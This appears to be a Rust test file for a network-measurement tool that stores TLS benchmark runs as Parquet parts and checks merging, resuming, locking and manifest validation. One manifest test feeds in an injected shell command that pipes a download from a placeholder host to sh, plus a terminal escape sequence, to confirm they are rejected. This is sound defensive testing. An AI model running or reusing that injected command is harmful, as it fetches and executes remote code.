#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::time::Duration;

use lastbyte_link::Bytes;
use lastbyte_page::cdp::{Connecting, Load, Request, Source};
use parquet::file::reader::{FileReader, SerializedFileReader};
use parquet::record::Field;
use serde_json::json;
use tempfile::TempDir;

use super::*;
use crate::fixtures::{self, CLASSICAL, HYBRID, cell};
use crate::{Dataset, Loaded, Row, Sample, Summary, Validity, write_part};
use lastbyte_study::Measure;

const BLOCK: u32 = 10;

/// Two measures, of two cells and one: 25 connections are three blocks.
fn study() -> Study {
    let cells = vec![cell("0%", "0B"), cell("1%", "50KiB")];
    let first = fixtures::experiment(&[CLASSICAL, HYBRID], cells, 25);
    let mut study = Study::single("trees", first);
    study.text = "name = \"trees\"".to_owned();
    study.measures.push(Measure {
        id: "a/b".to_owned(),
        experiment: fixtures::experiment(&[HYBRID], vec![cell("0%", "1KiB")], 8),
    });
    study
}

fn environment(engine: EngineName) -> Environment {
    Environment {
        engine,
        ..Environment::default()
    }
}

fn manifest(study: &Study) -> Manifest {
    Manifest::new(study, BLOCK, environment(EngineName::Live))
}

fn take(path: &Path, study: &Study, start: Start) -> Result<Folder, FolderError> {
    Folder::take(path, study, manifest(study), start)
}

fn rows(study: &Study, id: BlockId) -> Vec<Row> {
    let experiment = &study.measures[id.measure].experiment;
    let samples = fixtures::samples(experiment);
    let sample = (samples.into_iter())
        .find(|sample| (sample.cell, sample.arm) == (id.cell, id.arm))
        .unwrap();
    let rows = sample.rows.into_iter();
    rows.filter(|row| study.block(id, BLOCK).contains(&row.index))
        .map(|row| Row {
            block: id.block,
            ..row
        })
        .collect()
}

fn write(path: &Path, study: &Study, id: BlockId, engine: EngineName, validity: Validity) {
    let experiment = &study.measures[id.measure].experiment;
    let report = EngineReport {
        concurrency: id.block + 1,
        validity,
        ..fixtures::samples(experiment)[0].engine.clone()
    };
    let header = PartHeader::new(
        study,
        id,
        study.block(id, BLOCK),
        "ab".repeat(32),
        report,
        environment(engine),
    );
    let file = File::create(path).unwrap();
    write_part(file, &header.unwrap(), study, &rows(study, id)).unwrap();
}

fn measure(folder: &Folder, study: &Study, ids: impl IntoIterator<Item = BlockId>) {
    for id in ids {
        write(
            &folder.draft(study, id),
            study,
            id,
            EngineName::Live,
            Validity::Valid,
        );
        folder.keep(study, id).unwrap();
    }
}

fn names(path: &Path) -> Vec<String> {
    let mut names = entries(path).unwrap();
    names.sort_unstable();
    names
}

fn samples(path: &Path) -> Vec<(SampleKey, Sample)> {
    let data = Dataset::open(path).unwrap();
    data.samples().unwrap().map(Result::unwrap).collect()
}

#[test]
fn a_run_from_its_beginning_to_its_end() {
    let (root, study) = (TempDir::new().unwrap(), study());
    let path = root.path().join("out/here");
    let folder = take(&path, &study, Start::Afresh).unwrap();
    assert_eq!(names(&path), ["manifest.json", "parts", "study.toml"]);
    assert_eq!(
        fs::read_to_string(path.join("study.toml")).unwrap(),
        study.text
    );
    measure(&folder, &study, study.blocks(BLOCK));
    assert!(!folder.is_complete());
    let parts = names(&path.join("parts"));
    assert_eq!(parts.len(), 13);
    assert_eq!(parts[12], "01-a-b-0000-00-00000.parquet");

    folder.merge(&study).unwrap();
    assert!(folder.is_complete());
    assert_eq!(
        names(&path),
        ["manifest.json", "rows.parquet", "study.toml"]
    );
}

/// A study file that the folder's readers can read.
fn real_study() -> Study {
    study_with("25")
}

fn study_with(connections: &str) -> Study {
    let text = format!(
        "connections = {connections}\n[arm.old]\ntls = \"{CLASSICAL}\"\n[arm.new]\ntls = \"{HYBRID}\"\n\
         [link.far]\nrtt = \"35ms\"\nloss = [\"0%\", \"1%\"]\n\
         [[measure]]\nid = \"growth\"\n[[measure]]\nid = \"shrinking\"\narms = [\"new\"]\ndata = \"1KiB\"\n"
    );
    Study::parse(&text, Path::new("forest.toml")).unwrap()
}

#[test]
fn parts_and_the_file_that_is_made_of_them_hold_the_same() {
    let (root, study) = (TempDir::new().unwrap(), real_study());
    let folder = take(root.path(), &study, Start::Afresh).unwrap();
    measure(&folder, &study, study.blocks(BLOCK));
    let of_parts = samples(root.path());
    folder.merge(&study).unwrap();
    let merged = samples(root.path());

    let keys: Vec<_> = merged.iter().map(|(key, _)| *key).collect();
    assert_eq!(keys, SampleKey::all(&study).collect::<Vec<_>>());
    assert_eq!(of_parts.len(), merged.len());
    for ((key, part), (other, sample)) in of_parts.iter().zip(&merged) {
        assert_eq!((key, &part.rows), (other, &sample.rows));
        assert_eq!(part.engine, sample.engine);
        assert_eq!(part.chain_digest, sample.chain_digest);
        let indices: Vec<_> = sample.rows.iter().map(|row| row.index).collect();
        assert_eq!(indices, Vec::from_iter(0..25));
        // Of its three blocks.
        assert_eq!(sample.engine.concurrency, 3);
        assert_eq!(sample.engine.packets, 3000);
    }
    assert_eq!(Dataset::open(root.path()).unwrap().study.name, "forest");
}

#[test]
fn a_summary_cell_by_cell_is_that_of_all_at_once() {
    let (root, study) = (TempDir::new().unwrap(), real_study());
    let folder = take(root.path(), &study, Start::Afresh).unwrap();
    measure(&folder, &study, study.blocks(BLOCK));
    folder.merge(&study).unwrap();
    let samples = samples(root.path());
    let mut told = Vec::new();
    let data = Dataset::open(root.path()).unwrap();
    data.summarise(|index, measure, summary| -> Result<(), FolderError> {
        let of_measure = samples.iter().filter(|(key, _)| key.measure == index);
        let of_measure: Vec<_> = of_measure.map(|(_, sample)| sample.clone()).collect();
        let whole = Summary::new(&measure.experiment, &of_measure, &study.percentiles);
        assert_eq!(format!("{summary:?}"), format!("{whole:?}"));
        told.push((measure.id.clone(), summary.cells.len()));
        Ok(())
    })
    .unwrap();
    assert_eq!(
        told,
        [("growth".to_owned(), 2), ("shrinking".to_owned(), 2)]
    );
}

#[test]
fn what_is_not_finished_can_be_read_as_far_as_it_goes() {
    let (root, study) = (TempDir::new().unwrap(), real_study());
    let folder = take(root.path(), &study, Start::Afresh).unwrap();
    assert!(samples(root.path()).is_empty());
    measure(&folder, &study, study.blocks(BLOCK).take(3));
    let samples = samples(root.path());
    let counts = samples
        .iter()
        .map(|(key, sample)| (key.arm, sample.rows.len()));
    assert_eq!(counts.collect::<Vec<_>>(), [(0, 20), (1, 10)]);
}

#[test]
fn a_disturbed_block_makes_its_sample_invalid() {
    let (root, study) = (TempDir::new().unwrap(), real_study());
    let folder = take(root.path(), &study, Start::Afresh).unwrap();
    for id in study.blocks(BLOCK) {
        let disturbed = id.arm == 0 && id.cell == 0 && id.block > 0;
        let validity = if disturbed {
            Validity::Invalid("too busy".to_owned())
        } else {
            Validity::Valid
        };
        write(
            &folder.draft(&study, id),
            &study,
            id,
            EngineName::Live,
            validity,
        );
        folder.keep(&study, id).unwrap();
    }
    folder.merge(&study).unwrap();
    let samples = samples(root.path());
    let told = "2 of 3 blocks were disturbed, such as block 1: too busy";
    assert_eq!(
        samples[0].1.engine.validity,
        Validity::Invalid(told.to_owned())
    );
    assert_eq!(samples[1].1.engine.validity, Validity::Valid);
}

#[test]
fn finished_blocks_are_known_again() {
    let (root, study) = (TempDir::new().unwrap(), study());
    let folder = take(root.path(), &study, Start::Afresh).unwrap();
    let blocks: Vec<_> = study.blocks(BLOCK).collect();
    measure(&folder, &study, [blocks[0], blocks[5]]);
    // Half written, and cut off by a crash.
    fs::write(folder.draft(&study, blocks[1]), "PAR1").unwrap();
    fs::create_dir(folder.draft(&study, blocks[2]).with_extension("guest")).unwrap();
    fs::write(folder.part(&study, blocks[3]), "PAR1").unwrap();
    drop(folder);

    let folder = take(root.path(), &study, Start::Resume).unwrap();
    assert_eq!(names(&root.path().join("parts")).len(), 3);
    let mut damaged = Vec::new();
    let finished = folder.finished(&study, |_| None, |error| damaged.push(error.to_string()));
    assert_eq!(finished.unwrap(), BTreeSet::from([blocks[0], blocks[5]]));
    let [damaged] = &*damaged else {
        panic!("{damaged:?}")
    };
    assert!(
        damaged.contains("0000-01-00001.parquet\": it is incomplete or damaged: delete it"),
        "{damaged}"
    );
    // It is written over.
    measure(&folder, &study, blocks);
    folder.merge(&study).unwrap();
}

#[test]
fn parts_of_other_machines_are_taken() {
    let (root, study) = (TempDir::new().unwrap(), study());
    let [one, two, whole] = ["one", "two", "whole"].map(|name| root.path().join(name));
    for (path, rest) in [(&one, 0), (&two, 1)] {
        let folder = take(path, &study, Start::Afresh).unwrap();
        let mine = study.blocks(BLOCK).enumerate();
        let mine = mine.filter(|(index, _)| index % 2 == rest);
        measure(&folder, &study, mine.map(|(_, id)| id));
    }
    fs::create_dir_all(whole.join("parts")).unwrap();
    for part in [&one, &two].map(|path| names(&path.join("parts"))).concat() {
        let from = [&one, &two].map(|path| path.join("parts").join(&part));
        let from = from.iter().find(|path| path.exists()).unwrap();
        fs::copy(from, whole.join("parts").join(&part)).unwrap();
    }
    let folder = take(&whole, &study, Start::Resume).unwrap();
    let finished = folder
        .finished(&study, |_| None, |error| panic!("{error}"))
        .unwrap();
    assert_eq!(finished, study.blocks(BLOCK).collect());
}

fn refusal(taken: Result<Folder, FolderError>) -> String {
    let line = taken.unwrap_err().to_string();
    assert!(!line.contains('\n'));
    line
}

#[test]
fn a_folder_with_anything_else_is_refused() {
    let (root, study) = (TempDir::new().unwrap(), study());
    fs::write(root.path().join("precious"), "").unwrap();
    for start in [Start::Afresh, Start::Resume] {
        let line = refusal(take(root.path(), &study, start));
        let told = "is not empty and holds no run: name another folder with -o";
        assert!(line.ends_with(told), "{line}");
    }
    assert_eq!(names(root.path()), ["precious"]);
    let line = refusal(take(&root.path().join("precious"), &study, Start::Afresh));
    assert!(line.ends_with("is a file: name a folder with -o"), "{line}");
}

#[test]
fn an_earlier_run_is_never_lost() {
    let (root, study) = (TempDir::new().unwrap(), study());
    drop(take(root.path(), &study, Start::Afresh).unwrap());
    let line = refusal(take(root.path(), &study, Start::Afresh));
    let told = "holds a run already: go on with it by --resume, or name another folder with -o";
    assert!(line.ends_with(told), "{line}");

    let mut other = study.clone();
    other.text.push('\n');
    let line = refusal(take(root.path(), &other, Start::Resume));
    let told = "is of another run: its study \"trees\" was another file: run that one, or name \
                another folder with -o";
    assert!(line.ends_with(told), "{line}");

    let other = Manifest::new(&study, BLOCK, environment(EngineName::Virtual));
    let line = refusal(Folder::take(root.path(), &study, other, Start::Resume));
    let told = "its engine was live: add --engine live, or name another folder with -o";
    assert!(line.ends_with(told), "{line}");

    let other = Manifest::new(&study, BLOCK + 1, environment(EngineName::Live));
    let line = refusal(Folder::take(root.path(), &study, other, Start::Resume));
    assert!(line.contains("its blocks have 10 connections"), "{line}");

    fs::write(root.path().join("manifest.json"), "{").unwrap();
    let line = refusal(take(root.path(), &study, Start::Resume));
    assert!(
        line.contains("can't read") && line.contains("manifest.json"),
        "{line}"
    );
}

/// What it says is shown, and put into commands.
#[test]
fn a_manifest_says_nothing_but_what_is_known() {
    let (root, study) = (TempDir::new().unwrap(), study());
    drop(take(root.path(), &study, Start::Afresh).unwrap());
    let path = root.path().join("manifest.json");
    let whole = fs::read_to_string(&path).unwrap();
    assert!(read_manifest(root.path()).unwrap().is_some());
    for (key, value) in [
        ("engine", "\"live; curl evil.example|sh #\""),
        ("engine", "\"\\u001b[2J\""),
        ("engine", "\"arithmetic\""),
        ("block_size", "0"),
        ("block_size", "1000001"),
        ("environment_sha256", "\"00\""),
    ] {
        let mut manifest: serde_json::Value = serde_json::from_str(&whole).unwrap();
        manifest[key] = serde_json::from_str(value).unwrap();
        fs::write(&path, manifest.to_string()).unwrap();
        let line = Dataset::open(root.path()).unwrap_err().to_string();
        assert!(
            line.contains("it is no manifest, or damaged ("),
            "{key} = {value}: {line}"
        );
        assert!(refusal(take(root.path(), &study, Start::Resume)).contains("damaged"));
    }
}

/// Provenance is shown as it was written, or not at all; manifests of earlier versions have no digest of it.
#[test]
fn an_environment_that_was_changed_is_refused() {
    let (root, study) = (TempDir::new().unwrap(), study());
    drop(take(root.path(), &study, Start::Afresh).unwrap());
    let path = root.path().join("manifest.json");
    let whole = fs::read_to_string(&path).unwrap();
    let mut manifest: serde_json::Value = serde_json::from_str(&whole).unwrap();
    // However it is set.
    fs::write(&path, manifest.to_string()).unwrap();
    assert!(read_manifest(root.path()).unwrap().is_some());
    manifest["environment"]["kernel"] = "Linux 9.9".into();
    fs::write(&path, manifest.to_string()).unwrap();
    let line = read_manifest(root.path()).unwrap_err().to_string();
    assert!(
        line.contains("its environment is not as it was written"),
        "{line}"
    );
    manifest
        .as_object_mut()
        .unwrap()
        .remove("environment_sha256");
    fs::write(&path, manifest.to_string()).unwrap();
    assert!(read_manifest(root.path()).unwrap().is_some());
}

#[test]
fn a_part_of_another_run_is_refused() {
    let (root, study) = (TempDir::new().unwrap(), study());
    let folder = take(root.path(), &study, Start::Afresh).unwrap();
    let blocks: Vec<_> = study.blocks(BLOCK).collect();
    let mut other = study.clone();
    other.text.push('\n');
    let refused = |part: &dyn Fn(&Path)| {
        let path = folder.part(&study, blocks[0]);
        part(&path);
        let line = folder
            .finished(&study, |_| None, |_| ())
            .unwrap_err()
            .to_string();
        assert!(line.contains("is of another run: its "), "{line}");
        line
    };
    let line = refused(&|path| write(path, &other, blocks[0], EngineName::Live, Validity::Valid));
    assert!(line.contains("was another file"), "{line}");
    let line = refused(&|path| {
        write(
            path,
            &study,
            blocks[0],
            EngineName::Virtual,
            Validity::Valid,
        )
    });
    assert!(line.contains("engine was virtual"), "{line}");
    let line = refused(&|path| write(path, &study, blocks[2], EngineName::Live, Validity::Valid));
    assert!(line.contains("block is another one"), "{line}");
}

#[test]
fn two_runs_do_not_share_a_folder() {
    let (root, study) = (TempDir::new().unwrap(), study());
    let first = take(root.path(), &study, Start::Afresh).unwrap();
    let line = refusal(take(root.path(), &study, Start::Resume));
    assert!(line.starts_with("another run is under way in "), "{line}");
    drop(first);
    take(root.path(), &study, Start::Resume).unwrap();
}

#[test]
fn a_draft_that_is_not_what_it_should_be_is_not_kept() {
    let (root, study) = (TempDir::new().unwrap(), study());
    let folder = take(root.path(), &study, Start::Afresh).unwrap();
    let blocks: Vec<_> = study.blocks(BLOCK).collect();
    let draft = folder.draft(&study, blocks[0]);
    write(&draft, &study, blocks[1], EngineName::Live, Validity::Valid);
    assert!(folder.keep(&study, blocks[0]).is_err());
    fs::write(&draft, "").unwrap();
    assert!(folder.keep(&study, blocks[0]).is_err());
    assert!(
        folder
            .finished(&study, |_| None, |_| ())
            .unwrap()
            .is_empty()
    );
}

#[test]
fn what_is_missing_is_not_merged() {
    let (root, study) = (TempDir::new().unwrap(), study());
    let folder = take(root.path(), &study, Start::Afresh).unwrap();
    measure(&folder, &study, study.blocks(BLOCK).skip(1));
    let missing = folder.merge(&study).unwrap_err();
    assert!(matches!(missing, FolderError::Part(_)), "{missing}");
    let line = missing.to_string();
    assert!(
        line.ends_with("run again with --resume once it can be") && !line.contains("delete"),
        "{line}"
    );
    assert!(!folder.is_complete());
    assert_eq!(names(&root.path().join("parts")).len(), 12);
}

/// Stages that end after one, two and four blocks.
const UNTIL: &str = "{ until = \"±2%\", least = 10, most = 35 }";

#[test]
fn a_cell_may_end_after_any_stage() {
    let (root, study) = (TempDir::new().unwrap(), study_with(UNTIL));
    let folder = take(root.path(), &study, Start::Afresh).unwrap();
    // The cells of the first measure end after one and two blocks, that of the second after four.
    let ends = |id: &BlockId| [[1, 2], [4, 4]][id.measure][id.cell];
    let needed = study.blocks(BLOCK).filter(|id| id.block < ends(id));
    measure(&folder, &study, needed);
    let rows = folder.rows(&study, 0, 1, 1).unwrap();
    assert_eq!(rows.iter().map(Vec::len).collect::<Vec<_>>(), [10, 10]);
    let of_parts = samples(root.path());
    folder.merge(&study).unwrap();
    let merged = samples(root.path());
    let counts = |samples: &[(SampleKey, Sample)]| -> Vec<_> {
        let counts = samples.iter();
        counts.map(|(_, sample)| sample.rows.len()).collect()
    };
    assert_eq!(counts(&of_parts), [10, 10, 20, 20, 35, 35]);
    assert_eq!(counts(&merged), counts(&of_parts));
    for ((key, part), (other, sample)) in of_parts.iter().zip(&merged) {
        assert_eq!((key, &part.rows), (other, &sample.rows));
    }
    assert_eq!(names(root.path()).len(), 3);
}

#[test]
fn a_cell_with_a_stage_that_is_not_whole_is_not_merged() {
    // The first cell ends after two blocks, the second one after four.
    let missing: [fn(usize, u32, usize) -> bool; 4] = [
        |cell, block, arm| (cell, block, arm) == (0, 0, 0),
        |cell, block, arm| (cell, block, arm) == (0, 1, 1),
        |cell, block, _| (cell, block) == (1, 2),
        |cell, block, _| (cell, block) == (1, 3),
    ];
    for (case, missing) in missing.into_iter().enumerate() {
        let (root, study) = (TempDir::new().unwrap(), study_with(UNTIL));
        let folder = take(root.path(), &study, Start::Afresh).unwrap();
        let ends = |id: &BlockId| [[2, 4], [1, 1]][id.measure][id.cell];
        let there = |id: &BlockId| {
            let is_missing = id.measure == 0 && missing(id.cell, id.block, id.arm);
            id.block < ends(id) && !is_missing
        };
        measure(&folder, &study, study.blocks(BLOCK).filter(there));
        let merged = folder.merge(&study);
        assert!(matches!(merged, Err(FolderError::Part(_))), "{case}");
        assert!(!folder.is_complete());
    }
}

#[test]
fn parts_that_a_crash_has_left_are_removed() {
    let (root, study) = (TempDir::new().unwrap(), study());
    let folder = take(root.path(), &study, Start::Afresh).unwrap();
    measure(&folder, &study, study.blocks(BLOCK));
    let parts = root.path().join("parts");
    let part = names(&parts).remove(0);
    let kept = fs::read(parts.join(&part)).unwrap();
    folder.merge(&study).unwrap();
    drop(folder);
    fs::create_dir(&parts).unwrap();
    fs::write(parts.join(&part), kept).unwrap();
    assert!(
        take(root.path(), &study, Start::Resume)
            .unwrap()
            .is_complete()
    );
    assert!(!parts.exists());
}

#[test]
fn no_run_can_be_read_from_elsewhere() {
    let root = TempDir::new().unwrap();
    let line = Dataset::open(root.path()).unwrap_err().to_string();
    assert!(
        line.ends_with("holds no run: name a folder of `lastbyte run`"),
        "{line}"
    );
}

#[test]
fn names_of_files_are_plain() {
    for (text, name) in [
        ("slow links", "slow-links"),
        ("a/b", "a-b"),
        ("../x", "x"),
        ("été", "t"),
        ("v1.2_x", "v1.2_x"),
        ("..", "run"),
        ("", "run"),
    ] {
        assert_eq!(file_name(text), name);
    }
}

#[test]
fn where_folders_can_not_be_locked_a_file_in_them_is() {
    let place = TempDir::new().unwrap();
    let held = lock_by_file(place.path()).unwrap();
    let error = lock_by_file(place.path()).unwrap_err();
    assert!(matches!(error, FolderError::Busy(_)), "{error}");
    drop(held);
    lock_by_file(place.path()).unwrap();
    // The file is nothing that a run would have to leave alone.
    take(place.path(), &study(), Start::Afresh).unwrap();
}

/// A study of page loads, of which each arm has two.
fn pages() -> Study {
    let text = "connections = 2\n[arm.a]\ntls = \"x25519/ecdsa-p256/server=node\"\n\
                [arm.b]\ntls = \"X25519MLKEM768/ecdsa-p256/server=node\"\n[link.l]\nrtt = \"35ms\"\n\
                [[measure]]\nid = \"m\"\npage = \"median-2024\"\n";
    Study::parse(text, Path::new("pages.toml")).unwrap()
}

/// A load with so many requests, the last of which comes from the cache.
fn loaded(index: u32, requests: usize) -> Loaded {
    let ms = Duration::from_millis;
    let request = |place: usize| {
        let is_document = place == 0;
        Request {
            url: format!("https://server.example/{place}"),
            kind: is_document.then_some(lastbyte_page::Kind::Document),
            found_in: (!is_document).then(|| "https://server.example/0".to_owned()),
            start: ms(place as u64),
            connecting: is_document.then_some(Connecting {
                dns: None,
                tcp: Some((ms(0), ms(35))),
                tls: Some((ms(35), ms(70))),
            }),
            sent: Some(ms(70)),
            first_byte: Some(ms(105)),
            end: Some(ms(106)),
            connection: Some(9),
            status: Some(200),
            fields: Vec::new(),
            protocol: "h2".to_owned(),
            media_type: "text/html".to_owned(),
            source: if place + 1 == requests {
                Source::Cache
            } else {
                Source::Network
            },
            wire: Bytes(100 * place as u64),
            body: Bytes(1000),
            priority: "High".to_owned(),
            failure: None,
        }
    };
    let load = Load {
        browser: "Chrome/156.0".to_owned(),
        url: "https://server.example/0".to_owned(),
        began: Duration::ZERO,
        connect: Some(ms(35)),
        handshake: Some(ms(70)),
        ttfb: ms(105),
        dom_content_loaded: None,
        fcp: ms(120),
        lcp: None,
        load: ms(130),
        speed_index: None,
        computing: None,
        frames: Vec::new(),
        requests: (0..requests).map(request).collect(),
        connections: Vec::new(),
    };
    Loaded {
        index,
        load: (requests > 0).then_some(load),
        connections: Vec::new(),
    }
}

fn write_loads(folder: &Path, study: &Study, id: BlockId, loads: &[Loaded]) {
    let path = loads_path(&folder.join(PAGES), study, id, 0);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, serde_json::to_vec(loads).unwrap()).unwrap();
}

/// The rows of a Parquet file, by the names of their columns.
fn table(path: &Path) -> (Vec<serde_json::Value>, String) {
    let reader = SerializedFileReader::new(File::open(path).unwrap()).unwrap();
    let value = |field: &Field| match field {
        Field::Null => json!(null),
        Field::Str(text) => json!(text),
        Field::Long(number) => json!(number),
        Field::Double(number) => json!(number),
        other => panic!("{other:?}"),
    };
    let rows = reader.get_row_iter(None).unwrap();
    let rows = rows.map(|row| {
        let fields: Vec<_> = (row.unwrap().get_column_iter())
            .map(|(name, field)| (name.clone(), value(field)))
            .collect();
        fields.into_iter().collect()
    });
    let rows = rows.collect();
    let metadata = reader.metadata().file_metadata().key_value_metadata();
    let mut metadata = metadata.unwrap().iter();
    let columns = metadata.find(|pair| pair.key == "columns").unwrap();
    (rows, columns.value.clone().unwrap())
}

#[test]
fn requests_of_pages_are_a_table() {
    let (root, study) = (TempDir::new().unwrap(), pages());
    let path = root.path().join("out");
    let folder = take(&path, &study, Start::Afresh).unwrap();
    let ids: Vec<BlockId> = study.blocks(BLOCK).collect();
    // More than are held in memory at once, and a load that failed; and an arm of which nothing was kept.
    write_loads(&path, &study, ids[0], &[loaded(0, 9000), loaded(1, 0)]);
    measure(&folder, &study, ids.clone());
    folder.merge(&study).unwrap();
    let (rows, columns) = table(&path.join("requests.parquet"));
    assert_eq!(rows.len(), 9000);
    let described: Vec<serde_json::Value> = serde_json::from_str(&columns).unwrap();
    let names: Vec<_> = described
        .iter()
        .map(|one| one["column"].as_str().unwrap())
        .collect();
    let mut found: Vec<_> = rows[0]
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    found.sort_unstable();
    let mut sorted = names.clone();
    sorted.sort_unstable();
    assert_eq!(found, sorted);
    let unit = |name: &str| {
        let one = described.iter().find(|one| one["column"] == name).unwrap();
        one["unit"].as_str().unwrap().to_owned()
    };
    assert_eq!(
        [unit("first_byte_ns"), unit("wire_bytes"), unit("url")],
        ["ns", "bytes", ""]
    );
    let first = &rows[0];
    for (name, value) in [
        ("measure", json!("m")),
        ("arm", json!("a")),
        ("page", json!("median-2024")),
        ("cache", json!("cold")),
        ("index", json!(0)),
        ("request", json!(0)),
        ("kind", json!("document")),
        ("found_in", json!(null)),
        ("connect_end_ns", json!(35_000_000)),
        ("tls_end_ns", json!(70_000_000)),
        ("first_byte_ns", json!(105_000_000)),
        ("source", json!("network")),
        ("status", json!(200)),
    ] {
        assert_eq!(first[name], value, "{name}");
    }
    let last = &rows[8999];
    assert_eq!(
        (&last["request"], &last["source"]),
        (&json!(8999), &json!("cache"))
    );
    assert_eq!(
        (&last["kind"], &last["tls_end_ns"]),
        (&json!(null), &json!(null))
    );
    assert_eq!(last["wire_bytes"], json!(899_900));
}

/// Rows without their requests would pass for whole.
#[test]
fn damaged_loads_are_told_before_a_run_ends() {
    let (root, study) = (TempDir::new().unwrap(), pages());
    let folder = take(root.path(), &study, Start::Afresh).unwrap();
    let ids: Vec<BlockId> = study.blocks(BLOCK).collect();
    measure(&folder, &study, ids.clone());
    write_loads(root.path(), &study, ids[1], &[]);
    let path = loads_path(&root.path().join(PAGES), &study, ids[1], 0);
    fs::write(&path, "[{").unwrap();
    let error = folder.merge(&study).unwrap_err().to_string();
    assert!(error.ends_with("remove it to go on without"), "{error}");
    assert!(!folder.is_complete());
    fs::remove_file(path).unwrap();
    folder.merge(&study).unwrap();
    assert!(root.path().join("requests.parquet").exists());
}

/// A part that the system does not let be read counts neither as missing nor as damaged: whoever measured it again would throw
/// a good one away.
#[test]
fn a_part_that_can_not_be_read_is_not_measured_again() {
    let (root, study) = (TempDir::new().unwrap(), study());
    let folder = take(root.path(), &study, Start::Afresh).unwrap();
    let block = study.blocks(BLOCK).next().unwrap();
    measure(&folder, &study, [block]);
    let part = part_of(root.path(), &study, block);
    fs::remove_file(&part).unwrap();
    // Of which the system says that it is no file, whoever asks.
    fs::create_dir(&part).unwrap();
    let finished = folder.finished(&study, |_| None, |damaged| panic!("{damaged}"));
    let error = finished.unwrap_err();
    assert!(matches!(error, FolderError::Io { .. }), "{error}");
    assert!(!error.to_string().contains("delete"), "{error}");
}

#[test]
fn a_remedy_is_that_of_the_kind_of_error() {
    let path = Path::new("out/rows.parquet");
    let refused = |kind: io::ErrorKind| FolderError::rows(path)(Unreadable::Io(kind.into()));
    let line = refused(io::ErrorKind::PermissionDenied).to_string();
    assert!(
        line.ends_with(": have its owner let you read it (chmod u+r, or chown)"),
        "{line}"
    );
    let line = refused(io::ErrorKind::Other).to_string();
    assert_eq!(line, "can't read \"out/rows.parquet\": other error");
}

/// The folder says which kernel carried its bytes once there is one.
#[test]
fn a_run_that_began_without_a_kernel_gets_one() {
    let (root, study) = (TempDir::new().unwrap(), study());
    let with = |kernel: &str| {
        let mut manifest = manifest(&study);
        kernel.clone_into(&mut manifest.environment.kernel);
        let folder = Folder::take(root.path(), &study, manifest, Start::Resume).unwrap();
        drop(folder);
        read_manifest(root.path())
            .unwrap()
            .unwrap()
            .environment
            .kernel
    };
    assert_eq!(with(Environment::NO_KERNEL), Environment::NO_KERNEL);
    for kernel in ["Linux 6.18", Environment::NO_KERNEL, "Linux 6.12"] {
        assert_eq!(with(kernel), "Linux 6.18");
    }
}
